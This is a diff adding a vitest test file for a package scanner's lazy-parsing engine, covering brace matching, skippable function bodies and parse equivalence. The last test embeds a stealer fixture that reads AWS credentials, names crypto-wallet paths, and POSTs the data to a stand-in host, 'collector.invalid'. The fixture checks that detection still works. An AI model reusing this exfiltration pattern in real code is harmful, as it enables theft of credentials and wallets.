@@ -1,0 +1,192 @@
+import { describe, expect, test } from 'vitest';
+import { readFileSync } from 'node:fs';
+import { matchBraces, closeOf } from '../src/engine/brace-scan.js';
+import { lazyPlan, LAZY_MIN_BYTES, type LazyHints } from '../src/engine/lazy-bodies.js';
+import { fastParse } from '../src/engine/fast-parse.js';
+import { analyzePackage, DEFAULT_ENGINE_OPTIONS } from '../src/engine/analyze.js';
+import { RULES } from '../heuristics/index.js';
+import { packageFromFiles } from './helpers/analyze.js';
+
+const NO_HINTS: LazyHints = { tagged: false };
+
+/** A function whose body names nothing of interest, `bytes` long. */
+function filler(name: string, bytes: number): string {
+  const lines: string[] = [];
+  let size = 0;
+  for (let i = 0; size < bytes; i++) {
+    const line = `  const v${i} = list.map((x) => x * ${i} + offset).filter((x) => x % 3 !== ${i % 3});\n`;
+    lines.push(line);
+    size += line.length;
+  }
+  return `function ${name}(list, offset) {\n${lines.join('')}  return list;\n}\n`;
+}
+
+function bodyOf(text: string, fnName: string): number {
+  return text.indexOf('{', text.indexOf(`function ${fnName}(`));
+}
+
+describe('brace scan', () => {
+  test('matches braces past strings, comments, templates and regular expressions', () => {
+    const text = "function f() { const s = '}'; /* } */ const r = /[}]{2}/g; const t = `a${ {b: 1}.b }}`; // }\n return { s, r, t }; }";
+    const pairs = matchBraces(text);
+    expect(closeOf(pairs, text.indexOf('{'))).toBe(text.length - 1);
+    // The object literal inside the template's ${…} is matched too.
+    const obj = text.indexOf('{b');
+    expect(text[closeOf(pairs, obj)]).toBe('}');
+    expect(closeOf(pairs, obj)).toBe(text.indexOf('}', obj));
+  });
+
+  test('records literal spans and tagged templates', () => {
+    const text = "const a = 'hello'; const b = /abc+/i; const c = $`ls -la ${dir}`; const d = `plain`;";
+    const pairs = matchBraces(text);
+    const spans: string[] = [];
+    for (let k = 0; k < pairs.literalCount; k++) spans.push(text.slice(pairs.literals[2 * k]!, pairs.literals[2 * k + 1]!));
+    expect(spans).toEqual(["'hello'", '/abc+/i', '`ls -la ${', '}`', '`plain`'].filter((s) => s.length >= 4));
+    expect(pairs.tagged).toEqual([text.indexOf('$`') + 1]);
+  });
+
+  test('an unterminated body has no match, and hostile input costs one pass', () => {
+    expect(closeOf(matchBraces('function f() { return 1;'), 13)).toBe(-1);
+    const deep = '{'.repeat(200_000) + '}'.repeat(200_000);
+    const started = performance.now();
+    const pairs = matchBraces(deep);
+    expect(closeOf(pairs, 0)).toBe(deep.length - 1);
+    expect(performance.now() - started).toBeLessThan(2_000);
+  });
+});
+
+describe('lazy plan', () => {
+  const pad = filler('pad', LAZY_MIN_BYTES);
+
+  test('small files get no plan; a body without a trigger is skippable, one with a trigger is not', () => {
+    expect(lazyPlan("function f() { return 1 }", undefined)).toBeUndefined();
+    const text = `${pad}function quiet(a) {\n${'  a = a + 1;\n'.repeat(40)}  return a;\n}\nfunction loud(a) {\n${'  a = a + 1;\n'.repeat(40)}  return eval(a);\n}\n`;
+    const plan = lazyPlan(text, NO_HINTS)!;
+    expect(plan).toBeDefined();
+    expect(plan.skippableEnd(bodyOf(text, 'quiet'))).toBeGreaterThan(0);
+    expect(plan.skippableEnd(bodyOf(text, 'loud'))).toBe(-1);
+    expect(plan.skippableEnd(bodyOf(text, 'pad'))).toBeGreaterThan(0);
+  });
+
+  test('a name bound to a capability keeps the bodies that use it, within its scope', () => {
+    const body = '  n += 1;\n'.repeat(40);
+    const text = `const cp = require('child_process');\nconst run = cp.exec;\n${pad}function usesAlias() {\n${body}  cp.spawn('x');\n}\nfunction usesAliasOfAlias() {\n${body}  run('x');\n}\nfunction other() {\n  function inner(cp) {\n${body}  }\n}\nfunction scoped() {\n  const os = require('os');\n  function a() {\n${body}    os.userInfo();\n  }\n}\nfunction unrelated() {\n${body}  return os;\n}\n`;
+    const plan = lazyPlan(text, NO_HINTS)!;
+    expect(plan.skippableEnd(bodyOf(text, 'usesAlias'))).toBe(-1);
+    expect(plan.skippableEnd(bodyOf(text, 'usesAliasOfAlias'))).toBe(-1);
+    expect(plan.skippableEnd(bodyOf(text, 'a'))).toBe(-1);
+    // `os` is bound inside scoped(); unrelated() sees another `os` and stays skippable.
+    expect(plan.skippableEnd(bodyOf(text, 'unrelated'))).toBeGreaterThan(0);
+  });
+
+  test("rules' hints keep a body: a literal hint in a string, a code hint in a name, a tagged template", () => {
+    const body = '  n += 1;\n'.repeat(40);
+    const text = `${pad}function wallet() {\n${body}  return '/Exodus/exodus.wallet';\n}\nfunction home() {\n${body}  return base.homedir();\n}\nfunction shell() {\n${body}  return $\`ls\`;\n}\nfunction plain() {\n${body}  return 'hello world';\n}\n`;
+    const plan = lazyPlan(text, { literals: /[eE]xodus/, code: /homedir/g, tagged: true })!;
+    expect(plan.skippableEnd(bodyOf(text, 'wallet'))).toBe(-1);
+    expect(plan.skippableEnd(bodyOf(text, 'home'))).toBe(-1);
+    expect(plan.skippableEnd(bodyOf(text, 'shell'))).toBe(-1);
+    expect(plan.skippableEnd(bodyOf(text, 'plain'))).toBeGreaterThan(0);
+    const none = lazyPlan(text, NO_HINTS)!;
+    expect(none.skippableEnd(bodyOf(text, 'wallet'))).toBeGreaterThan(0);
+  });
+
+  test('a callback handed to a capability stays with its statement', () => {
+    const body = '    n += k.length;\n'.repeat(30);
+    const text = `${pad}exports.opts = Object.keys(process.env).filter((k) => {\n${body}    return k.startsWith('APP_');\n  });\n`;
+    const plan = lazyPlan(text, NO_HINTS)!;
+    expect(plan.skippableEnd(text.indexOf('{', text.indexOf('(k) =>')))).toBe(-1);
+  });
+
+  test('obfuscated files (string arrays, _0x names) are parsed whole', () => {
+    expect(lazyPlan(`${pad}var _0x1a2b = ['a'];`, NO_HINTS)).toBeUndefined();
+  });
+});
+
+describe('lazy parse', () => {
+  test('skipped bodies are empty flagged blocks; everything else equals the full parse', () => {
+    const text = `${filler('big', LAZY_MIN_BYTES)}const fs = require('fs');\nfunction keep() { return fs.readFileSync('x'); }\n`;
+    const lazy = fastParse(text, lazyPlan(text, NO_HINTS));
+    const full = fastParse(text);
+    if (!('ast' in lazy) || !('ast' in full)) throw new Error('parse failed');
+    expect(lazy.skipped).toBe(1);
+    expect(lazy.lazyFailed).toBeUndefined();
+    const [bigLazy, ...restLazy] = lazy.ast.program.body as unknown as { type: string; body: { body: unknown[]; tgLazy?: boolean }; end: number }[];
+    const [bigFull, ...restFull] = full.ast.program.body as unknown as { type: string; body: { body: unknown[] }; end: number }[];
+    expect(bigLazy!.body.tgLazy).toBe(true);
+    expect(bigLazy!.body.body).toEqual([]);
+    expect(bigFull!.body.body.length).toBeGreaterThan(10);
+    expect(bigLazy!.end).toBe(bigFull!.end);
+    expect(JSON.stringify(restLazy, ['type', 'start', 'end', 'name', 'value'])).toBe(JSON.stringify(restFull, ['type', 'start', 'end', 'name', 'value']));
+  });
+
+  test("where the brace scan misreads a body, the parser's tokenizer refuses the skip and the file is parsed in full", () => {
+    // After `)` the scan takes `/` for a division, so the `}` inside this regex closes the body early.
+    const body = '  n += 1;\n'.repeat(40);
+    const text = `${filler('pad', LAZY_MIN_BYTES)}function tricky(s) {\n${body}  if (s) /[}]/.test(s);\n  return s;\n}\n`;
+    const plan = lazyPlan(text, NO_HINTS)!;
+    const lazy = fastParse(text, plan);
+    if (!('ast' in lazy)) throw new Error('parse failed');
+    expect(lazy.lazyFailed).toMatch(/skipped body ends at/);
+    expect(lazy.skipped).toBe(0);
+    const full = fastParse(text);
+    if (!('ast' in full)) throw new Error('parse failed');
+    expect(JSON.stringify(lazy.ast, ['type', 'start', 'end', 'body', 'program'])).toBe(JSON.stringify(full.ast, ['type', 'start', 'end', 'body', 'program']));
+  });
+
+  test('on real bundles the brace scan agrees with acorn on every body', () => {
+    const files = ['acorn/dist/acorn.js', '@babel/parser/lib/index.js', 'semver/classes/range.js', 'yaml/dist/compose/composer.js', 'tar/dist/commonjs/unpack.js', 'pacote/lib/fetcher.js'];
+    let skipped = 0;
+    for (const f of files) {
+      const text = readFileSync(new URL(`../node_modules/${f}`, import.meta.url), 'utf8');
+      const plan = lazyPlan(text, NO_HINTS, 0, 0)!;
+      const r = fastParse(text, plan);
+      if (!('ast' in r)) throw new Error(`${f}: ${r.error.message}`);
+      expect(r.lazyFailed, f).toBeUndefined();
+      skipped += r.skipped;
+    }
+    expect(skipped).toBeGreaterThan(100);
+  });
+});
+
+describe('lazy bodies in the engine', () => {
+  const findingsOf = (files: Record<string, string>, lazy: 'off' | 'on') => {
+    const before = process.env.TOLLGATE_LAZY;
+    if (lazy === 'off') process.env.TOLLGATE_LAZY = 'off';
+    else delete process.env.TOLLGATE_LAZY;
+    try {
+      const a = analyzePackage(packageFromFiles(files), RULES, DEFAULT_ENGINE_OPTIONS);
+      return { findings: a.findings.map((f) => `${f.rule} ${f.severity} ${f.line}:${f.column} ${f.message}`).sort(), stats: a.stats };
+    } finally {
+      if (before === undefined) delete process.env.TOLLGATE_LAZY;
+      else process.env.TOLLGATE_LAZY = before;
+    }
+  };
+
+  test('a stealer hidden among large harmless functions is found exactly as by the full parse', () => {
+    const stealer = [
+      "const https = require('https');",
+      "const fs = require('fs');",
+      "const os = require('os');",
+      'function target() {',
+      `${'  n += 1;\n'.repeat(30)}  return os.homedir() + '/.aws/credentials';`,
+      '}',
+      'function wallets() {',
+      `${'  n += 1;\n'.repeat(30)}  return ['/Exodus/exodus.wallet', '/.electrum/wallets'];`,
+      '}',
+      'function send(data) {',
+      `${'  n += 1;\n'.repeat(30)}  const req = https.request({ hostname: 'collector.invalid', method: 'POST' });\n  req.end(data);`,
+      '}',
+      "send(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'));",
+    ].join('\n');
+    const files = { 'index.js': filler('a', 60_000) + stealer + '\n' + filler('b', 30_000), 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js' }) };
+    const off = findingsOf(files, 'off');
+    const on = findingsOf(files, 'on');
+    expect(on.stats.lazyBodies).toBeGreaterThanOrEqual(2);
+    expect(off.stats.lazyBodies).toBeUndefined();
+    expect(on.findings).toEqual(off.findings);
+    expect(on.findings.some((f) => f.startsWith('exfiltration-flow'))).toBe(true);
+    // wallets() names no capability: only crypto-theft's hint keeps its body parsed.
+    expect(on.findings.some((f) => f.startsWith('crypto-theft high'))).toBe(true);
+  });
+});
